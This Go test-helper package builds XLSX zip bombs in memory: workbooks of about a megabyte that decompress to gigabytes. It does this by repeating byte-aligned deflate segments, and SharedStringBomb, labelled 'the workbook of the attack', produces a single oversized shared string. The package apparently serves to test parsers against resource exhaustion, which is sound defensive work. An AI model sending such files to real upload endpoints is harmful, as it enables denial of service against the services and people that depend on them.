// Package sheettest makes spreadsheet files for tests: workbooks that
// unpack to gigabytes (zip bombs), built in memory in a fraction of a second.
package sheettest

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"hash/crc32"
	"strings"
)

// GiB is a gibibyte.
const GiB = 1 << 30

// segment is bytes repeated a number of times.
type segment struct {
	data  []byte
	times int64
}

// Part is a part's content: fixed text around repeated bulk.
type Part []segment

func Text(s ...string) Part { return Part{{[]byte(strings.Join(s, "")), 1}} }

// Bulk is unit repeated to n bytes between before and after.
func Bulk(before, unit string, n int64, after string) Part {
	block := strings.Repeat(unit, max(1, 1<<20/len(unit)))
	rest := n % int64(len(block))
	return Part{{[]byte(before), 1}, {[]byte(block), n / int64(len(block))}, {[]byte(block[:rest]), 1}, {[]byte(after), 1}}
}

// deflate compresses a part without ever holding it: each segment is
// compressed once by a compressor of its own, ending on a byte boundary
// (Flush), so that its compressed bytes can be repeated as it is.
func deflate(w Part) (comp []byte, crc uint32, n uint64) {
	var out bytes.Buffer
	sum := crc32.NewIEEE()
	for i, s := range w {
		var c bytes.Buffer
		fw, _ := flate.NewWriter(&c, flate.BestCompression)
		fw.Write(s.data)
		if i == len(w)-1 {
			fw.Close()
		} else {
			fw.Flush()
		}
		for range s.times {
			out.Write(c.Bytes())
			sum.Write(s.data)
		}
		n += uint64(len(s.data)) * uint64(s.times)
	}
	return out.Bytes(), sum.Sum32(), n
}

// XLSX makes a workbook of one sheet whose parts are given, the others
// standard; the sheet refers to its shared strings. A part of a GiB costs
// about a megabyte.
func XLSX(parts map[string]Part) []byte {
	all := map[string]Part{
		"[Content_Types].xml": Text(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`),
		"_rels/.rels": Text(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
		"xl/workbook.xml": Text(`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
			`<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
		"xl/_rels/workbook.xml.rels": Text(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`),
		"xl/sharedStrings.xml":     Text(`<sst><si><t>保单号</t></si></sst>`),
		"xl/worksheets/sheet1.xml": Text(`<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`),
	}
	for name, w := range parts {
		all[name] = w
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"} {
		comp, crc, n := deflate(all[name])
		w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc, CompressedSize64: uint64(len(comp)), UncompressedSize64: n})
		if err != nil {
			panic(err)
		}
		w.Write(comp)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// SharedStringBomb is the workbook of the attack: one shared string that
// unpacks to size bytes.
func SharedStringBomb(size int64) []byte {
	return XLSX(map[string]Part{"xl/sharedStrings.xml": Bulk("<sst><si><t>", "A", size, "</t></si></sst>")})
}
